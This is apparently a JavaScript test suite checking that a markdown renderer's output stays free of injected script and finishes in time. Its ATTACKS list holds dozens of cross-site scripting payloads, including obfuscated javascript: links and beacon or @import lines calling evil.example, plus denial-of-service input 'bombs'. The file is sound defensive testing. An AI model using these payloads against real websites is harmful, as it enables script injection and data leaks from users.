// Whatever a reply holds, its DOM is made of harmless elements, attributes and addresses, and made in time.
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { test } from "node:test";
import { documents } from "./corpus.js";
import { place } from "./dom.js";
import { prefixes, seeded } from "./random.js";

const SOURCES = new URL("../../metask_magic/display/frontend/src/", import.meta.url);
const { MarkdownRenderer } = await import("../../metask_magic/display/frontend/src/markdown/renderer.js");
const { safeAddress } = await import("../../metask_magic/display/frontend/src/markdown/urls.js");

const ELEMENTS = new Set(
  "p h1 h2 h3 h4 h5 h6 hr blockquote ul ol li table thead tbody tr th td pre code em strong del br a span input".split(" "),
);
const ATTRIBUTES = {
  a: ["href", "target", "rel", "title", "class"],
  code: ["class"],
  span: ["class"],
  li: ["class"],
  p: ["class"],
  ol: ["start"],
  input: ["type", "disabled", "checked", "aria-label"],
  th: ["style"],
  td: ["style"],
};

function assertHarmless(root, source) {
  for (const node of root.querySelectorAll("*")) {
    const name = node.localName;
    assert.ok(ELEMENTS.has(name), `<${name}> from ${JSON.stringify(source.slice(0, 200))}`);
    for (const attribute of node.attributes) {
      assert.ok(ATTRIBUTES[name]?.includes(attribute.name), `${name} ${attribute.name} from ${source.slice(0, 200)}`);
    }
    const href = node.getAttribute("href");
    if (href !== null) assert.match(href, /^(?:https?:\/\/|mailto:)/);
    const style = node.getAttribute("style");
    if (style !== null) assert.match(style, /^text-align: (?:left|center|right);$/);
  }
}

function renderBothWays(text) {
  const once = place();
  new MarkdownRenderer(once).finish(text);
  const live = place();
  const renderer = new MarkdownRenderer(live);
  const step = Math.max(1, Math.ceil(text.length / 20));
  for (let end = step; end < text.length + step; end += step) renderer.write(text.slice(0, end));
  renderer.finish(text);
  return [once, live];
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import 'http://evil.example/x'</style>",
  "<a href='javascript:alert(1)'>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:http://x/y)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![beacon](https://evil.example/?leak=1)",
  "[![x](https://evil.example/y.png)](javascript:alert(1))",
  "[x](/lab/tree/secret) [x](../files/a) [x](//evil.example) [x](?a=b) [x](#y)",
  "<javascript:alert(1)> <data:text/html,x>",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "[x][y]\n\n[y]: <java&#10;script:alert(1)>",
  "```\" onmouseover=\"alert(1)\nx\n```",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```__proto__\nx\n```",
  "[x](https://example.org \"\\\" onclick=alert(1)\")",
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  "- [x] <input autofocus onfocus=alert(1)>",
  "$<img src=x onerror=alert(1)>$ \\(</span><script>alert(1)</script>\\)",
  "\ufdd0\ue000\ue001\ufdd1 faked placeholder $x$",
  "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200e",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0000\u0007\b",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "[__proto__]: https://example.org\n[constructor]: https://example.org\n\n[__proto__] [constructor] [toString]",
];

for (const attack of ATTACKS) {
  test(`harmless: ${JSON.stringify(attack).slice(0, 70)}`, () => {
    for (const root of renderBothWays(attack)) assertHarmless(root, attack);
  });
}

test("markup of an attack is shown as text", () => {
  const [root] = renderBothWays("<img src=x onerror=alert(1)>");
  assert.equal(root.textContent, "<img src=x onerror=alert(1)>");
});

test("images are links, and load nothing", () => {
  const [root] = renderBothWays("![a chart](https://example.org/c.png)");
  assert.equal(root.querySelector("img"), null);
  assert.equal(root.querySelector("a.metask-image").textContent, "a chart");
});

const ADDRESSES = {
  "https://example.org/a?b#c": "https://example.org/a?b#c",
  "HTTPS://EXAMPLE.org": "https://example.org/",
  "mailto:a@example.org": "mailto:a@example.org",
  " https://example.org/ ": "https://example.org/",
  "https://exämple.org/": "https://xn--exmple-cua.org/",
  "java\nscript:alert(1)": null,
  "\u0000javascript:alert(1)": null,
  "relative/path": null,
  "//example.org": null,
  "https://": null,
  "ftp://example.org": null,
  "": null,
};

test("addresses", () => {
  for (const [address, wanted] of Object.entries(ADDRESSES)) assert.equal(safeAddress(address), wanted, address);
});

const repeat = (text) => (count) => text.repeat(count);
const BOMBS = {
  "quotes": repeat(">"),
  "spaced quotes": repeat("> "),
  "lists": repeat("- "),
  "numbered lists": repeat("1. "),
  "quotes and lists": repeat("> - "),
  "stars": (count) => `${"*".repeat(count)}a${"*".repeat(count)}`,
  "open emphasis": repeat("*a "),
  "underscores": repeat("_a __b"),
  "open brackets": repeat("["),
  "open links": repeat("[a]("),
  "open images": repeat("!["),
  "backticks": (count) => Array.from({ length: Math.ceil(Math.sqrt(count)) }, (_, n) => "`".repeat(n + 1)).join("a"),
  "dollars": repeat("$a"),
  "open TeX brackets": repeat("\\("),
  "open displays": repeat("\\[ "),
  "open environments": repeat("\\begin{a}"),
  "braces": (count) => `$${"{".repeat(count)}$`,
  "less-than signs": repeat("<"),
  "ampersands": repeat("&#"),
  "pipes": (count) => `${"a|".repeat(count)}\n${"-|".repeat(count)}\n`,
  "one huge line": repeat("xxxxx "),
  "one huge word": repeat("xxxxxxxxxx"),
  "blank lines": repeat("\n"),
  "definitions": (count) => Array.from({ length: count / 8 }, (_, n) => `[a${n}]: http://x\n`).join(""),
};

// What the renderer allows itself, on any machine: 150 ms for each of 20 writes, 1500 ms for each of two ends. The
// third is for making the elements and looking at them.
const ALLOWED = 20 * 150 + 2 * 1_500 + 3_000;

for (const [name, bomb] of Object.entries(BOMBS)) {
  test(`in time: ${name}`, () => {
    const text = bomb(4_000);
    const start = process.cpuUsage(); // and not the clock: a busy neighbour makes nothing slower
    for (const root of renderBothWays(text)) assertHarmless(root, text);
    const took = process.cpuUsage(start).user / 1000;
    assert.ok(took < ALLOWED, `${Math.round(took)} ms`);
  });
}

test("what would take too long is given up, and shown as it was written", () => {
  const text = `*a* ${BOMBS.underscores(8_000)}`;
  const root = place();
  new MarkdownRenderer(root).finish(text);
  assert.equal(root.firstElementChild.className, "metask-source");
  assert.equal(root.textContent, text);
});

test("random mixtures of attacks and documents stay harmless", () => {
  const random = seeded(7);
  const parts = [...ATTACKS, ...documents()];
  for (let run = 0; run < 100; run++) {
    const picks = Array.from({ length: 4 }, () => parts[Math.floor(random() * parts.length)]);
    const whole = picks.join(random() < 0.5 ? "" : "\n");
    const text = random() < 0.5 ? whole : whole.slice(Math.floor(random() * whole.length));
    const root = document.createElement("div");
    const renderer = new MarkdownRenderer(root, { unhurried: true });
    for (const prefix of prefixes(text, random)) {
      renderer.write(prefix);
      if (random() < 0.2) assertHarmless(root, text);
    }
    renderer.finish(text);
    assertHarmless(root, text);
  }
});

test("nothing in the front end's own source sets HTML", () => {
  const files = readdirSync(SOURCES, { recursive: true }).filter((name) => name.endsWith(".js"));
  assert.ok(files.length > 10);
  for (const name of files) {
    const source = readFileSync(new URL(name, SOURCES), "utf8");
    assert.doesNotMatch(source, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function/, name);
  }
});
